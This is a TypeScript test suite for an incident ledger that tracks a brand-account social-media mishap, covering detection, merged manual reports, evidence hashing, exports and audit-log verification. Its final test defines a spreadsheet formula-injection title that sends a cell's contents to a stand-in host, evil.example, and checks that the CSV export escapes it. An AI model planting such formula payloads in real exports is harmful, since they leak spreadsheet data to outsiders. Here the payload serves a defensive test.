import { createHash } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { verifyAuditChain } from '#domain';
import { AuditLogRepository } from '#persistence';
import { CHRYSLER, seedChryslerCase } from '../../../../test/e2e/incidents-chrysler.fixture.js';
import { by, incidentServices } from './incident-services.test-helper.js';
import { useTestDatabase } from '../../../../test/support/test-database.js';
import { readAuditExport } from './audit-export.reader.js';

describe('the incident ledger on the Chrysler case', () => {
  const t = useTestDatabase();
  let workspaceId: string;
  let accountId: string;

  beforeAll(async () => {
    ({ workspaceId, accountId } = await seedChryslerCase(t.db.dataSource));
  });

  test('detection records one critical incident, attributed to the agency, contained by the deletion', async () => {
    const s = incidentServices(t.db);
    const run = await s.detection.detect(workspaceId, { by: by(0) });
    expect(run.hitsByRule).toEqual({ content: 1, 'off-duty-publication': 1, 'engagement-anomaly': 1 });
    expect(run.created).toHaveLength(1);
    const [incident] = await s.incidents.list(workspaceId);
    expect(incident).toMatchObject({
      accountHandle: CHRYSLER.handle,
      kind: 'offensive_content',
      severity: 'critical',
      status: 'contained',
      occurredAt: CHRYSLER.postedAt,
      detectedAt: by(0).at,
      containedAt: CHRYSLER.deletedAt,
      operatorName: 'NMS agent',
      sourcingGroup: CHRYSLER.agencyGroup,
      rules: ['content', 'engagement-anomaly', 'off-duty-publication'],
      evidence: { item: { text: CHRYSLER.text, application: 'HootSuite', engagement: { reposts: 80 } } },
    });
    const [event] = await s.timeline.listEvents([incident.id]);
    expect(event).toMatchObject({ type: 'detected', actor: 'cli:auditor' });
    const audit = await new AuditLogRepository(t.db.dataSource).listForEntities(workspaceId, 'incident', [
      incident.id,
    ]);
    expect(audit.map((a) => a.action)).toEqual(['incident.created']);
    expect(audit[0].payload).toMatchObject({ severity: 'critical', sourcingGroup: CHRYSLER.agencyGroup });
  });

  test('running detection again changes nothing and writes nothing', async () => {
    const s = incidentServices(t.db);
    const before = (await s.audit.verify(workspaceId)).head;
    const run = await s.detection.detect(workspaceId, { by: by(5) });
    expect(run).toMatchObject({ created: [], updated: [], unchanged: 1 });
    expect((await s.audit.verify(workspaceId)).head).toEqual(before);
  });

  test('a person reporting the same post adds to that incident, with the evidence hashed', async () => {
    const s = incidentServices(t.db);
    const result = await s.ledger.reportManual(
      workspaceId,
      {
        kind: 'wrong_account',
        severity: 'high',
        title: 'Agency employee posted on the brand account',
        description: 'He meant his personal account.',
        occurredAt: CHRYSLER.postedAt,
        accountId,
        itemExternalId: CHRYSLER.postId,
        evidence: [
          { fileName: 'screenshot.png', mediaType: 'image/png', content: Buffer.from('not really a png') },
        ],
      },
      by(10),
    );
    expect(result.merged).toBe(true);
    const all = await s.incidents.list(workspaceId);
    expect(all).toHaveLength(1);
    const events = await s.timeline.listEvents([result.id]);
    expect(events.map((e) => e.type)).toEqual(['detected', 'reported', 'evidence']);
    const [file] = await s.timeline.listEvidence([result.id]);
    expect(file.sha256).toBe(createHash('sha256').update('not really a png').digest('hex'));
    const [evidenceEntry] = (await s.audit.verify(workspaceId)).ok
      ? (
          await new AuditLogRepository(t.db.dataSource).listForEntities(workspaceId, 'incident', [result.id])
        ).filter((a) => a.action === 'incident.evidence_added')
      : [];
    expect(evidenceEntry.payload).toMatchObject({ fileName: 'screenshot.png', sha256: file.sha256 });
    expect(await s.timeline.evidenceContent(workspaceId, file.id)).toEqual(Buffer.from('not really a png'));
  });

  test('resolving, commenting: the timeline and the audit log both tell it', async () => {
    const s = incidentServices(t.db);
    const [incident] = await s.incidents.list(workspaceId);
    await s.actions.comment(workspaceId, incident.id, 'Agency contract under review.', by(20));
    const resolved = await s.actions.changeStatus(workspaceId, incident.id, 'resolved', {
      ...by(30),
      note: 'apology posted',
    });
    expect(resolved).toMatchObject({
      status: 'resolved',
      resolvedAt: by(30).at,
      containedAt: CHRYSLER.deletedAt,
    });
    const events = await s.timeline.listEvents([incident.id]);
    expect(events.slice(-2).map((e) => [e.type, e.body])).toEqual([
      ['comment', 'Agency contract under review.'],
      ['status', 'status contained → resolved: apology posted'],
    ]);
    const actions = (
      await new AuditLogRepository(t.db.dataSource).listForEntities(workspaceId, 'incident', [incident.id])
    ).map((a) => a.action);
    expect(actions).toEqual([
      'incident.created',
      'incident.reported_again',
      'incident.evidence_added',
      'incident.commented',
      'incident.status_changed',
    ]);
  });

  test('a narrower allow-list adds the wrong-account hit to the incident, without reopening it', async () => {
    // HootSuite was allowed when the post went out; an auditor narrows the list to the agency's Sprout Social.
    const s = incidentServices(t.db);
    const account = { id: accountId, handle: CHRYSLER.handle };
    await s.settings.disallowApplication(workspaceId, account, 'HootSuite', by(40));
    await s.settings.allowApplication(workspaceId, account, 'Sprout Social', by(40));
    const run = await s.detection.detect(workspaceId, { by: by(45) });
    const [chrysler] = (await s.incidents.list(workspaceId)).filter((i) =>
      i.subjectKey?.endsWith(CHRYSLER.postId),
    );
    // Equally severe, the more specific harm names the incident now: a post on the wrong account.
    expect(run.updated).toEqual([
      { id: chrysler.id, changes: ['rules added: wrong-account', 'kind offensive_content → wrong_account'] },
    ]);
    expect(chrysler).toMatchObject({ status: 'resolved', severity: 'critical', kind: 'wrong_account' });
    expect(chrysler.rules).toContain('wrong-account');
  });

  test('exports of the period parse back to what the ledger holds; the audit export verifies on its own', async () => {
    const s = incidentServices(t.db);
    const period = {
      workspace: { id: workspaceId, slug: CHRYSLER.workspace },
      from: new Date('2011-03-01T05:00:00Z'),
      to: new Date('2011-04-01T04:00:00Z'),
    };
    const ledger = await s.incidents.list(workspaceId, { from: period.from, to: period.to });
    const csv = parse(await s.exports.incidentsExport(period, 'csv'), { columns: true }) as Record<
      string,
      string
    >[];
    expect(csv.map((r) => [r.id, r.severity, r.status, r.sourcing_group, r.occurred_at])).toEqual(
      ledger.map((i) => [i.id, i.severity, i.status, i.sourcingGroup ?? '', i.occurredAt.toISOString()]),
    );
    expect(JSON.parse(csv.find((r) => r.id === ledger[0].id)!.evidence)).toEqual(
      JSON.parse(JSON.stringify(ledger[0].evidence)),
    );
    const json = JSON.parse(await s.exports.incidentsExport(period, 'json'));
    expect(json.incidents.map((i: { id: string; timeline: unknown[] }) => i.id)).toEqual(
      ledger.map((i) => i.id),
    );

    const everything = { ...period, from: new Date(0), to: new Date('2100-01-01T00:00:00Z') };
    for (const format of ['csv', 'json'] as const) {
      const { entries } = readAuditExport(await s.exports.auditExport(everything, format), format);
      expect(entries.length).toBeGreaterThan(5);
      expect(verifyAuditChain(entries)).toMatchObject({ ok: true, checked: entries.length });
    }
  });

  test('a title that a spreadsheet would run as a formula is exported as text, and the audit export still verifies', async () => {
    const s = incidentServices(t.db);
    const title = '=HYPERLINK("http://evil.example/?"&A1,"open the evidence")';
    const { id } = await s.ledger.reportManual(
      workspaceId,
      { kind: 'other', severity: 'low', title, occurredAt: by(50).at, accountId },
      { actor: '@reporter', at: by(50).at },
    );
    const period = {
      workspace: { id: workspaceId, slug: CHRYSLER.workspace },
      from: new Date(0),
      to: new Date('2100-01-01T00:00:00Z'),
    };
    const text = await s.exports.incidentsExport(period, 'csv');
    const row = (parse(text, { columns: true }) as Record<string, string>[]).find((r) => r.id === id)!;
    expect(row.title).toBe(`'${title}`);
    const audit = await s.exports.auditExport(period, 'csv');
    expect(audit).toContain("'@reporter");
    const { entries } = readAuditExport(audit, 'csv');
    expect(entries.find((e) => e.entityId === id)?.actor).toBe('@reporter');
    expect(verifyAuditChain(entries)).toMatchObject({ ok: true, checked: entries.length });
  });
});
